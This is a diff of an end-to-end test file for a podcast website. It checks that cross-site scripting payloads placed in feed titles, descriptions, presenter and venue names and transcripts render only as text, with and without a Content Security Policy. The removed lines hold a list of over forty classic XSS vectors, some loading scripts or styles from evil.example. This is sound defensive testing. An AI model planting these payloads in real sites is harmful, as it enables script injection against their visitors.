@@ -1,230 +1,69 @@
-import { cp, mkdir, open, readFile, rm, writeFile } from 'node:fs/promises';
+import { cp, writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
-import Database from 'better-sqlite3';
-import type { Page } from 'playwright-core';
+import type { Locator, Page } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
-import { dbConfigSchema, latestSchema } from '../src/core/site-config.ts';
 import type { RunningServer } from '../src/builder/serve.ts';
-import { buildWithCli, DEMO_MEDIA, serveSite } from '../scripts/demo-site.ts';
+import { startServer } from '../src/builder/serve.ts';
+import { siteMounts } from '../src/builder/site-mounts.ts';
+import { buildWithCli, DEMO_MEDIA, SITE_DIR } from '../scripts/demo-site.ts';
 import {
   expectNoProblems,
   launchBrowser,
   NO_PROBLEMS,
   openPage,
+  row,
   search,
   workFolder,
   type BrowserSession,
   type PageProblems,
 } from './harness.ts';
+import {
+  PWN,
+  vector,
+  VECTORS,
+  writeHostilePodcast,
+  writeRawDescriptions,
+  writeSiteWithoutCsp,
+} from './xss-podcast.ts';
 
-// Script payloads in every place a podcast's inputs reach the page: feed descriptions and
-// titles, the channel title, presenter and venue names, and transcript words. They go through
-// the real CLI (`trawl build`, which sanitises descriptions), then render in Chromium with
-// the filters and their menus open, every transcript expanded, a search and an episode route.
-// No dialog may open, no payload may run (each sets window.__pwned), and nothing may be
-// fetched from anywhere but the site. A second database has the raw payloads written straight
-// into its descriptions, to prove the page's own sanitiser holds without the builder's.
+// Script payloads in every place a podcast's inputs reach the page (e2e/xss-podcast.ts): feed
+// descriptions and titles, the channel title, presenter and venue names, and transcript words.
+// They go through the real CLI (`trawl build`, which sanitises descriptions), then render in
+// Chromium. Each view that shows them is checked while it is on screen, before the next: the
+// list (titles, descriptions, venues, host names), each filter menu's options and the chosen
+// chips, every transcript, search snippets, and an episode's own page. No dialog may open, no
+// payload may run (each sets window.__pwned), no dangerous markup may be in the page, and
+// nothing may be fetched from anywhere but the site. A second database has the raw payloads
+// written straight into its descriptions, and it is also served without the CSP: the page's
+// own sanitising must hold with neither the builder's nor the policy's help.
 
-const PWN = 'window.__pwned=true';
-
-/** Classic XSS vectors. Each would set window.__pwned or open a dialog if it ran. */
-const VECTORS: readonly string[] = [
-  `<script>${PWN}</script>`,
-  `<SCRIPT SRC="http://evil.example/x.js"></SCRIPT>`,
-  `<img src=x onerror="${PWN}">`,
-  `<img src="http://evil.example/track.png" onload="${PWN}">`,
-  `<svg onload="${PWN}">`,
-  `<svg><script>${PWN}</script></svg>`,
-  `<svg><animate onbegin="${PWN}" attributeName="x" dur="1s"></animate></svg>`,
-  `<iframe src="javascript:top.__pwned=true"></iframe>`,
-  `<iframe srcdoc="<script>parent.__pwned=true</script>"></iframe>`,
-  `<a href="javascript:${PWN}">a javascript link</a>`,
-  `<a href="JaVaScRiPt:${PWN}">a mixed-case javascript link</a>`,
-  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:${PWN}">an encoded link</a>`,
-  `<a href=" javascript:${PWN}">a spaced link</a>`,
-  `<a href="data:text/html,<script>alert(1)</script>">a data link</a>`,
-  `<img src="data:image/svg+xml,<svg onload=alert(1)>">`,
-  `<object data="javascript:${PWN}"></object>`,
-  `<embed src="javascript:${PWN}">`,
-  `<style>@import url(http://evil.example/x.css); body { background: url("javascript:alert(1)") }</style>`,
-  `<div style="background-image:url(javascript:${PWN})">styled</div>`,
-  `<link rel="stylesheet" href="http://evil.example/x.css">`,
-  `<body onload="${PWN}">`,
-  `<input autofocus onfocus="${PWN}">`,
-  `<details open ontoggle="${PWN}">details</details>`,
-  `<video><source onerror="${PWN}"></video>`,
-  `<audio src=x onerror="${PWN}"></audio>`,
-  `<marquee onstart="${PWN}">marquee</marquee>`,
-  `&lt;script&gt;${PWN}&lt;/script&gt;`,
-  `&amp;lt;img src=x onerror=${PWN}&amp;gt;`,
-  `<noscript><p title="</noscript><img src=x onerror=${PWN}>"></noscript>`,
-  `<svg></p><style><a id="</style><img src=1 onerror=${PWN}>">`,
-  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=${PWN}&gt;">`,
-  `<form action="javascript:${PWN}"><button>submit</button></form>`,
-  `<meta http-equiv="refresh" content="0;url=javascript:${PWN}">`,
-  `<base href="http://evil.example/">`,
-  `<template><script>${PWN}</script></template>`,
-  `<img src="x" onerror="&#119;indow.__pwned=true">`,
-  `<a href="https://example.org/" onclick="${PWN}">an onclick link</a>`,
-  `"><script>${PWN}</script>`,
-  `'-alert(1)-'`,
-  `<scr<script>ipt>${PWN}</scr</script>ipt>`,
-  `<img src=x:alert(alt) onerror=eval(src) alt=0>`,
-  `<x onmouseover="${PWN}">hover me</x>`,
-  `<table background="javascript:${PWN}"><tr><td>cell</td></tr></table>`,
-];
-
-/** This run's own folder (set before the tests). */
 let WORK: string;
-const HOST_IDS = [6, 7, 12, 22];
-
-const xml = (text: string): string =>
-  text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;');
-const vector = (index: number): string => VECTORS[index % VECTORS.length] ?? '';
-
-/** A podcast folder with a vector in every field a visitor sees. */
-async function writeHostilePodcast(folder: string): Promise<void> {
-  await rm(folder, { recursive: true, force: true });
-  await mkdir(join(folder, 'transcripts'), { recursive: true });
-  const items = VECTORS.map((description, index) => {
-    const episode = index + 1;
-    return `<item>
-  <title>${xml(vector(index + 7))}</title>
-  <description>${xml(description)}</description>
-  <pubDate>${new Date(Date.UTC(2024, 0, episode)).toUTCString()}</pubDate>
-  <itunes:duration>${60 + episode}</itunes:duration>
-  <podcast:episode>${episode}</podcast:episode>
-</item>`;
-  });
-  await writeFile(
-    join(folder, 'feed.xml'),
-    `<?xml version="1.0" encoding="UTF-8"?>
-<rss version="2.0" xmlns:itunes="http://www.itunes.com/dtds/podcast-1.0.dtd" xmlns:podcast="https://podcastindex.org/namespace/1.0">
-<channel><title>${xml(`<img src=x onerror="${PWN}">Hostile`)}</title>
-${items.join('\n')}
-</channel></rss>
-`,
-  );
-  const presenterIds = [...HOST_IDS, 30, 31, 40, 41, 42, 43];
-  await writeFile(
-    join(folder, 'presenters.json'),
-    JSON.stringify(
-      presenterIds.map((id, index) => ({
-        id,
-        firstName: vector(index),
-        middleName: vector(index + 11),
-        lastName: vector(index + 23),
-        qiElf: id === 30 || id === 31,
-        guest: id >= 40,
-      })),
-    ),
-  );
-  const venueIds = [1, 2, 3, 4, 5, 6];
-  await writeFile(
-    join(folder, 'venues.json'),
-    JSON.stringify(
-      venueIds.map((id, index) => ({
-        id,
-        name: vector(index + 3),
-        city: vector(index + 17),
-        state: vector(index + 29),
-        country: index % 2 === 0 ? vector(index + 5) : 'United Kingdom',
-      })),
-    ),
-  );
-  await writeFile(
-    join(folder, 'overrides.json'),
-    JSON.stringify(
-      VECTORS.map((_, index) => ({
-        episode: String(index + 1),
-        presenter1: presenterIds[index % presenterIds.length],
-        presenter2: presenterIds[(index + 3) % presenterIds.length],
-        presenter3: presenterIds[(index + 6) % presenterIds.length],
-        venue: venueIds[index % venueIds.length],
-        live: index % 5 === 0,
-        compilation: index % 7 === 0,
-      })),
-    ),
-  );
-  await writeFile(
-    join(folder, 'trawl.config.json'),
-    JSON.stringify({
-      site: { hostIds: HOST_IDS, pageSize: 100, wfhVenueIds: [2], officeVenueIds: [1, 4] },
-    }),
-  );
-  for (const [index] of VECTORS.entries()) {
-    const text = `hello there. ${vector(index + 13)} said nobody. ${vector(index + 2)}`;
-    let time = 0;
-    const words = text.split(/\s+/).map((word) => {
-      time += 0.4;
-      return { word: ` ${word}`, start: time - 0.4, end: time - 0.1, probability: 0.9 };
-    });
-    await writeFile(
-      join(folder, 'transcripts', `${index + 1}.json`),
-      JSON.stringify({ segments: [{ start: 0, end: time, text, words }] }),
-    );
-  }
-}
-
-/** A copy of a built version whose descriptions are the raw vectors, re-chunked. */
-async function writeRawDescriptions(from: string, to: string): Promise<void> {
-  await rm(to, { recursive: true, force: true });
-  await cp(from, to, { recursive: true });
-  const { latest } = latestSchema.parse(
-    JSON.parse(await readFile(join(to, 'latest.json'), 'utf8')),
-  );
-  const config = dbConfigSchema.parse(
-    JSON.parse(await readFile(join(to, latest, 'config.json'), 'utf8')),
-  );
-  const chunkName = (index: number) =>
-    `${config.urlPrefix}${String(index).padStart(config.suffixLength, '0')}`;
-  const whole = join(to, 'whole.sqlite3');
-  const chunks = Math.ceil(config.databaseLengthBytes / config.serverChunkSize);
-  const parts: Buffer[] = [];
-  for (let index = 0; index < chunks; index += 1)
-    parts.push(await readFile(join(to, latest, chunkName(index))));
-  await writeFile(whole, Buffer.concat(parts));
-  const db = new Database(whole);
-  const update = db.prepare('UPDATE episode_descriptions SET description = ? WHERE id = ?');
-  const ids = db.prepare('SELECT id FROM episode_descriptions ORDER BY id').pluck().all();
-  ids.forEach((id, index) => update.run(vector(index), Number(id)));
-  db.close();
-  const bytes = await readFile(whole);
-  await rm(whole);
-  for (let index = 0; index < chunks; index += 1) await rm(join(to, latest, chunkName(index)));
-  const count = Math.ceil(bytes.length / config.serverChunkSize);
-  for (let index = 0; index < count; index += 1) {
-    const handle = await open(join(to, latest, chunkName(index)), 'w');
-    await handle.write(
-      bytes.subarray(index * config.serverChunkSize, (index + 1) * config.serverChunkSize),
-    );
-    await handle.close();
-  }
-  await writeFile(
-    join(to, latest, 'config.json'),
-    JSON.stringify({ ...config, databaseLengthBytes: bytes.length }),
-  );
-}
-
 let session: BrowserSession;
-let server: RunningServer;
-let rawServer: RunningServer;
+const servers: RunningServer[] = [];
 
 beforeAll(async () => {
   WORK = await workFolder('xss');
   await writeHostilePodcast(join(WORK, 'podcast'));
   await buildWithCli(join(WORK, 'podcast'), join(WORK, 'db'));
   await writeRawDescriptions(join(WORK, 'db'), join(WORK, 'raw-db'));
-  server = await serveSite(join(WORK, 'db'), DEMO_MEDIA);
-  rawServer = await serveSite(join(WORK, 'raw-db'), DEMO_MEDIA);
+  await writeSiteWithoutCsp(join(WORK, 'site-without-csp'));
   session = await launchBrowser();
 });
 
 afterAll(async () => {
   await session.close();
-  await server.close();
-  await rawServer.close();
+  await Promise.allSettled(servers.map((server) => server.close()));
 });
+
+/** Serves a database folder of this run with the built site, or with its copy without the CSP. */
+async function serve(db: 'db' | 'raw-db', csp: boolean): Promise<RunningServer> {
+  const siteDir = csp ? SITE_DIR : join(WORK, 'site-without-csp');
+  const server = await startServer({
+    mounts: siteMounts({ dbDir: join(WORK, db), siteDir, mediaDir: DEMO_MEDIA }),
+  });
+  servers.push(server);
+  return server;
+}
 
 /** Everything a payload could have left in the page. */
 async function dangerousMarkup(page: Page): Promise<string[]> {
@@ -238,15 +77,17 @@ async function dangerousMarkup(page: Page): Promise<string[]> {
     for (const element of root.querySelectorAll(`.episode-row__description :is(${banned})`)) {
       found.push(element.outerHTML.slice(0, 80));
     }
-    for (const element of root.querySelectorAll('script, iframe, object, embed, base, meta')) {
+    for (const element of document.body.querySelectorAll(
+      'script, iframe, object, embed, base, meta',
+    )) {
       found.push(element.outerHTML.slice(0, 80));
     }
-    for (const element of root.querySelectorAll('*')) {
+    for (const element of document.body.querySelectorAll('*')) {
       for (const attribute of element.getAttributeNames()) {
         const value = element.getAttribute(attribute) ?? '';
         if (/^on/i.test(attribute)) found.push(`${element.tagName} ${attribute}`);
         if (
-          /^(href|src|action|formaction|background|srcdoc)$/i.test(attribute) &&
+          /^(href|src|action|formaction|background|srcdoc|xlink:href)$/i.test(attribute) &&
           /^\s*(javascript|data|vbscript):/i.test(value)
         ) {
           found.push(`${element.tagName} ${attribute}=${value.slice(0, 40)}`);
@@ -257,86 +98,183 @@ async function dangerousMarkup(page: Page): Promise<string[]> {
   });
 }
 
-/** Opens the site, every menu and transcript, searches, and opens an episode's route. */
-async function exercise(
-  baseUrl: string,
-): Promise<{ page: Page; problems: PageProblems; dialogs: string[] }> {
+interface Visit {
+  page: Page;
+  problems: PageProblems;
+  dialogs: string[];
+}
+
+/** Opens a page that also records every dialog a payload might open. */
+async function visit(baseUrl: string): Promise<Visit> {
   const { page, problems } = await openPage(session, baseUrl);
   const dialogs: string[] = [];
   page.on('dialog', (dialog) => {
     dialogs.push(dialog.message());
     dialog.dismiss().catch(() => undefined);
   });
+  return { page, problems, dialogs };
+}
+
+/** The text of everything `locator` matches, joined. */
+async function textOf(locator: Locator): Promise<string> {
+  return (await locator.allInnerTexts()).join('\n');
+}
+
+/**
+ * The view on screen shows payloads (each text in `shown` holds some) and none of them did
+ * anything: no dialog, no window.__pwned, no dangerous markup. Images are waited for first
+ * (loaded or broken; the site's own lazy artwork below the fold never starts), so an `onerror`
+ * or `onload` that would run has run.
+ */
+async function expectHarmless(
+  { page, dialogs }: Visit,
+  view: string,
+  shown: Record<string, string>,
+): Promise<void> {
+  for (const [part, text] of Object.entries(shown)) {
+    expect(text, `${view} shows the payloads in its ${part}`).toContain(PWN);
+  }
+  await page.waitForFunction(() =>
+    [...document.images].every((image) => image.complete || image.loading === 'lazy'),
+  );
+  expect(dialogs, view).toEqual([]);
+  expect(await page.evaluate(() => Reflect.get(window, '__pwned')), view).toBeUndefined();
+  expect(await dangerousMarkup(page), view).toEqual([]);
+}
+
+/**
+ * Every view that shows the payloads, each checked while it is on screen, before the next
+ * (window.__pwned also keeps what ran in earlier views of the same document).
+ */
+async function everyView(visited: Visit, baseUrl: string): Promise<void> {
+  const { page } = visited;
   await page.goto(baseUrl);
   await page.getByText(`showing all ${VECTORS.length} episodes`).waitFor();
+
+  // The list: the channel title, episode titles, venues, host names and every description.
+  await expect(page.getByRole('heading', { level: 1 }).innerText()).resolves.toBe(
+    `<img src=x onerror="${PWN}">Hostile`,
+  );
+  expect(await page.getByText(`1: ${vector(7)}`, { exact: true }).count()).toBe(1);
+  const descriptions = page.locator('.episode-row__description');
+  await expect.poll(() => descriptions.count()).toBe(VECTORS.length);
+  await page.locator('.episode-row__description[aria-busy]').first().waitFor({ state: 'detached' });
+  // Hover what the payloads would have wanted a visitor to touch.
+  for (const target of await page.locator('.episode-row__description *').all()) {
+    await target.hover({ timeout: 1_000 }).catch(() => undefined);
+  }
+  const hostNames = await page
+    .getByRole('list', { name: 'Hosts' })
+    .getByRole('img')
+    .evaluateAll((images) => images.map((image) => image.getAttribute('alt') ?? '').join('\n'));
+  await expectHarmless(visited, 'the list', {
+    titles: await textOf(page.getByRole('article').getByRole('heading')),
+    descriptions: await textOf(descriptions),
+    venues: await textOf(page.locator('.episode-row__venue')),
+    'host names': hostNames,
+  });
+
+  // Each filter menu with every option, then two chosen of each as chips.
   await page.getByRole('button', { name: /show filters/ }).click();
   for (const name of ['Presenters', 'Venues']) {
     const select = page.getByRole('combobox', { name });
     await select.click();
     await page.getByRole('option').first().waitFor();
-    // Every option of the menu is rendered; pick two so their labels show as chips too.
+    await expectHarmless(visited, `the ${name} menu`, {
+      options: await textOf(page.getByRole('option')),
+    });
     for (let pick = 0; pick < 2; pick += 1) {
-      await select.click();
       await page.getByRole('option').nth(pick).click();
+      await select.click();
     }
     await select.press('Escape');
+    await page.getByRole('listbox').waitFor({ state: 'detached' });
   }
-  await page.getByRole('button', { name: /hide filters/ }).click();
+  const chips = page.locator('.multi-select__multi-value__label');
+  await expect.poll(() => chips.count()).toBe(4);
+  await expectHarmless(visited, 'the filters', {
+    'chosen presenters and venues': await textOf(chips),
+  });
+
+  // Every view so far was checked: a new document for the whole list again.
   await page.goto(baseUrl);
   await page.getByText(`showing all ${VECTORS.length} episodes`).waitFor();
+
+  // Every transcript: the words.
   await page.getByRole('button', { name: '[+] expand all' }).click();
+  const transcripts = page.getByRole('region', { name: /^Transcript of episode / });
+  await expect.poll(() => transcripts.count()).toBe(VECTORS.length);
   await page.getByText('Loading transcript…').first().waitFor({ state: 'detached' });
-  // Hover and focus what the payloads would have wanted a visitor to touch.
-  for (const target of await page.locator('.episode-row__description *').all()) {
-    await target.hover({ timeout: 1_000 }).catch(() => undefined);
-  }
+  await expectHarmless(visited, 'every transcript', { words: await textOf(transcripts) });
+  await page.getByRole('button', { name: '[-] collapse all' }).click();
+
+  // Search snippets: every transcript says 'nobody' right after a payload.
+  await search(page, 'nobody', `found ${VECTORS.length} of ${VECTORS.length} episodes`);
+  const snippets = page.getByRole('region', { name: /^Where it was said in episode / });
+  await expect.poll(() => snippets.count()).toBe(VECTORS.length);
+  await expectHarmless(visited, 'a search', { snippets: await textOf(snippets) });
+
+  // A payload as the search term, highlighted nowhere and run nowhere.
   await search(page, `<img src=x onerror=${PWN}>`, /^found \d+ of \d+ episodes$/);
-  await page.goto(`${baseUrl}/episodes/3?q=${encodeURIComponent(`<script>${PWN}</script>`)}`);
-  await page.getByText(/^found \d+ of \d+ episodes$/).waitFor();
-  await page.getByText('Loading transcript…').first().waitFor({ state: 'detached' });
-  return { page, problems, dialogs };
+  await expectHarmless(visited, 'a payload as the search term', {
+    'search box': await page.getByRole('searchbox').inputValue(),
+  });
+
+  // An episode's own page (a link inside the app): its title, description and transcript.
+  await search(page, 'nobody', `found ${VECTORS.length} of ${VECTORS.length} episodes`);
+  await row(page, '3').getByRole('link').first().click();
+  await page.getByText(`found 1 of ${VECTORS.length} episodes`).waitFor();
+  const episode = page.getByRole('region', { name: 'Transcript of episode 3' });
+  await episode.getByRole('button').first().waitFor();
+  await expectHarmless(visited, "episode 3's page", { row: await textOf(row(page, '3')) });
 }
 
 describe(`${VECTORS.length} XSS vectors in descriptions, titles, people, venues and transcripts`, () => {
-  test('the vectors are really there: titles, names and words render as text', async () => {
+  test('sanitised by the builder, under the CSP: every view is harmless', async () => {
     expect(VECTORS.length).toBeGreaterThanOrEqual(30);
-    const { page, problems } = await openPage(session, server.url);
-    await page.goto(server.url);
-    await page.getByText(`showing all ${VECTORS.length} episodes`).waitFor();
-    await expect(page.getByRole('heading', { level: 1 }).innerText()).resolves.toBe(
-      `<img src=x onerror="${PWN}">Hostile`,
-    );
-    expect(await page.getByText(`1: ${vector(7)}`, { exact: true }).count()).toBe(1);
-    expectNoProblems(problems);
-    await page.close();
-  });
-
-  test('sanitised by the builder: no dialog, no payload runs, no foreign request, no dangerous markup', async () => {
-    const { page, problems, dialogs } = await exercise(server.url);
-    expect(dialogs).toEqual([]);
-    expect(await page.evaluate(() => Reflect.get(window, '__pwned'))).toBeUndefined();
-    expect(await dangerousMarkup(page)).toEqual([]);
-    expectNoProblems(problems);
-    await page.close();
+    const server = await serve('db', true);
+    const visited = await visit(server.url);
+    await everyView(visited, server.url);
+    expectNoProblems(visited.problems);
+    await visited.page.close();
   });
 
   test('raw payloads written into the database: the page sanitises them itself', async () => {
-    const { page, problems, dialogs } = await exercise(rawServer.url);
-    expect(dialogs).toEqual([]);
-    expect(await page.evaluate(() => Reflect.get(window, '__pwned'))).toBeUndefined();
-    expect(await dangerousMarkup(page)).toEqual([]);
+    const server = await serve('raw-db', true);
+    const visited = await visit(server.url);
+    await everyView(visited, server.url);
     // Chromium reports an inline handler or <base> as a CSP violation as soon as HTML holding
     // it is parsed, even in DOMPurify's inert document where it can never run: those reports
     // are the raw payloads being blocked. Nothing else may be reported.
     const blockedWhileSanitising =
       /^(Executing inline event handler violates|Setting the document's base URI to 'http:\/\/evil\.example\/'|Content Security Policy violation: (script-src-attr inline|base-uri http:\/\/evil\.example\/))/;
+    const { problems } = visited;
     expect(problems.cspViolations.length).toBeGreaterThan(0);
     expect({
       ...problems,
       consoleErrors: problems.consoleErrors.filter((text) => !blockedWhileSanitising.test(text)),
       cspViolations: problems.cspViolations.filter((text) => !blockedWhileSanitising.test(text)),
     }).toEqual(NO_PROBLEMS);
-    await page.close();
+    await visited.page.close();
+  });
+
+  test('raw payloads and no CSP at all: the page sanitising alone holds', async () => {
+    const server = await serve('raw-db', false);
+    const visited = await visit(server.url);
+    const response = await visited.page.goto(server.url);
+    expect(response?.headers()['content-security-policy']).toBeUndefined();
+    expect(await visited.page.locator('meta[http-equiv]').count()).toBe(0);
+    // Nothing stops a script here: one the test adds runs.
+    const ran = await visited.page.evaluate(() => {
+      const script = document.createElement('script');
+      script.textContent = 'window.__unguarded = true';
+      document.head.append(script);
+      return Reflect.get(window, '__unguarded');
+    });
+    expect(ran).toBe(true);
+    await everyView(visited, server.url);
+    expectNoProblems(visited.problems);
+    await visited.page.close();
   });
 
   test('a javascript: source link in trawl.config.json is refused at build time', async () => {
